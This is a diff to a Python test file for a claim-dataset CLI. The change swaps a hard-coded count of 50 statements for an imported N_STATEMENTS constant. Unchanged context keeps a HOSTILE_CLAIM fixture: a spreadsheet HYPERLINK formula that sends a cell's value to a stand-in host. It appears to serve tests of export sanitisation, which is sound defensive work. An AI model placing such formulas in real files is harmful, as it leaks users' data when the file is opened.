@@ -10,7 +10,7 @@ from click.testing import CliRunner
 from claimset.cli import cli
 from claimset.export import RATING
 from claimset.schemas import CLAIM_TYPES, SETTLED_VERDICTS, VERDICTS
-from conftest import DATASET, SOURCE_ID, edit, tree_bytes
+from conftest import DATASET, N_STATEMENTS, SOURCE_ID, edit, tree_bytes
 
 STATEMENTS = DATASET / "data/statements/train-00000-of-00001.parquet"
 HOSTILE_CLAIM = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
@@ -149,7 +149,7 @@ def test_table_exports_round_trip_through_validate(tmp_path, fmt):
     assert result.exit_code == 0, result.output
     check = CliRunner().invoke(cli, ["validate", str(out)])
     assert check.exit_code == 0, check.output
-    assert check.output == f"{out}: valid (50 statements).\n"
+    assert check.output == f"{out}: valid ({N_STATEMENTS} statements).\n"
 
 
 def test_csv_export_writes_label_names_and_json_lists(tmp_path):
